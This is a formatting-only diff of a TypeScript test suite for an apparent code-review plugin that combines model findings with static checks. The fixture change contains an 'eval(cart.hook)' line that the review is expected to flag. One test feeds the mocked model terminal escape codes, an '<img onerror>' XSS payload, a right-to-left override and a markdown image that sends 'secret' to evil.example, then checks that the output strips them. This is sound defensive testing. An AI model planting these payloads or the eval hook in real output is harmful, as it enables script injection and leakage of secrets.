@@ -4,12 +4,20 @@ import { asData } from "../../../functions/plugins/code-review/ask-model.ts";
 import { dataOf, diffAttachment, diffOf, files, found, newHarness } from "./review-of.ts";
 
 const change = diffOf("src/pay.js", 20, [" function pay(cart) {", "+  const total = cart.items.reduce((sum, item) => sum + item.price);", "+  eval(cart.hook);", " }"]);
-const bug = { path: "src/pay.js", line: 21, severity: "high", confidence: 0.8, message: "reduce has no start value: an empty cart throws.", suggestion: "Give 0 as the start value." };
+const bug = {
+  path: "src/pay.js",
+  line: 21,
+  severity: "high",
+  confidence: 0.8,
+  message: "reduce has no start value: an empty cart throws.",
+  suggestion: "Give 0 as the start value.",
+};
 const answer = (...findings: object[]) => JSON.stringify({ findings });
 const nothing = answer();
 
 /** Answers each node by itself; nodes that are not named find nothing. */
-const byNode = (answers: Record<string, (call: ModelCall) => ModelAnswer>) => (call: ModelCall) => answers[call.node]?.(call) ?? (call.node === "summarise" ? "Fix the empty cart first." : nothing);
+const byNode = (answers: Record<string, (call: ModelCall) => ModelAnswer>) => (call: ModelCall) =>
+  answers[call.node]?.(call) ?? (call.node === "summarise" ? "Fix the empty cart first." : nothing);
 const run = async (answers: Record<string, (call: ModelCall) => ModelAnswer>, attachments = diffAttachment(change)) => {
   await using harness = newHarness({ model: byNode(answers) });
   const output = await harness.run({ task: "Review this change", attachments });
@@ -21,7 +29,15 @@ const run = async (answers: Record<string, (call: ModelCall) => ModelAnswer>, at
 describe("a review with a model", () => {
   it("is complete, holds the model's findings beside the static ones, and its summary", async () => {
     const asked = new Set<string>();
-    const answers = Object.fromEntries(["security", "logic", "performance", "summarise"].map((name) => [name, ({ node }: ModelCall) => (asked.add(node), node === "logic" ? answer(bug) : node === "summarise" ? "Fix the empty cart first." : nothing)]));
+    const answers = Object.fromEntries(
+      ["security", "logic", "performance", "summarise"].map((name) => [
+        name,
+        ({ node }: ModelCall) => {
+          asked.add(node);
+          return node === "logic" ? answer(bug) : node === "summarise" ? "Fix the empty cart first." : nothing;
+        },
+      ]),
+    );
     const { output } = await run(answers);
     expect(output.status).toBe("success");
     expect(found(output)).toEqual(["model/logic@src/pay.js:21", "no-eval@src/pay.js:22"]);
@@ -39,9 +55,18 @@ describe("a review with a model", () => {
     expect(found(output)).toContain("model/logic@src/pay.js:21");
   });
 
-  it.each([["prose", "Looks good to me!"], ["half an object", '{"findings": [{"path": "src/pay.js"'], ["another shape", '{"findings": "none"}']])("warns after two answers that are %s, and keeps the rest", async (_name, text) => {
+  it.each([
+    ["prose", "Looks good to me!"],
+    ["half an object", '{"findings": [{"path": "src/pay.js"'],
+    ["another shape", '{"findings": "none"}'],
+  ])("warns after two answers that are %s, and keeps the rest", async (_name, text) => {
     let asked = 0;
-    const { output } = await run({ logic: () => ((asked += 1), text) });
+    const { output } = await run({
+      logic: () => {
+        asked += 1;
+        return text;
+      },
+    });
     expect(asked).toBe(2);
     expect(output.status).toBe("partial");
     expect(output.warnings.map((warning) => warning.code)).toEqual(["MODEL_ANSWER_INVALID"]);
@@ -67,7 +92,12 @@ describe("a review with a model", () => {
 
   it("ends at once when the task is cancelled during a model call", async () => {
     const cancel = new AbortController();
-    await using harness = newHarness({ model: () => (cancel.abort(), { fault: "hangs" }) });
+    await using harness = newHarness({
+      model: () => {
+        cancel.abort();
+        return { fault: "hangs" };
+      },
+    });
     await expect(harness.run({ task: "Review", attachments: diffAttachment(change), signal: cancel.signal })).rejects.toThrow();
     expect(harness.lastRun.output).toBeNull();
   });
@@ -78,7 +108,10 @@ describe("a review with a model", () => {
   });
 
   it("prints nothing of a model's that could work on a terminal or in a page", async () => {
-    const { output, run: seen } = await run({ logic: () => answer({ ...bug, message: "\u001b[2Jclean <img src=x onerror=alert(1)> ![x](https://evil.example/?q=secret)", suggestion: "\u202Etxet" }), summarise: () => "All good \u001b]0;title\u0007 [click](https://evil.example)" });
+    const { output, run: seen } = await run({
+      logic: () => answer({ ...bug, message: "\u001b[2Jclean <img src=x onerror=alert(1)> ![x](https://evil.example/?q=secret)", suggestion: "\u202Etxet" }),
+      summarise: () => "All good \u001b]0;title\u0007 [click](https://evil.example)",
+    });
     const texts = [output.result, JSON.stringify(output.data), ...[...seen.artifacts.values()].map(({ content }) => Buffer.from(content).toString())].join("\n");
     expect(texts).not.toMatch(/[\u001b\u0007\u202e]|<img|evil\.example/);
   });
@@ -142,7 +175,10 @@ describe("a review without a model", () => {
 
   it("gives the same review for the same change", async () => {
     await using harness = newHarness();
-    const [first, second] = [await harness.run({ task: "Review", attachments: diffAttachment(change) }), await harness.run({ task: "Review", attachments: diffAttachment(change) })];
+    const [first, second] = [
+      await harness.run({ task: "Review", attachments: diffAttachment(change) }),
+      await harness.run({ task: "Review", attachments: diffAttachment(change) }),
+    ];
     expect(first.result).toBe(second.result);
     expect(first.data).toEqual(second.data);
   });
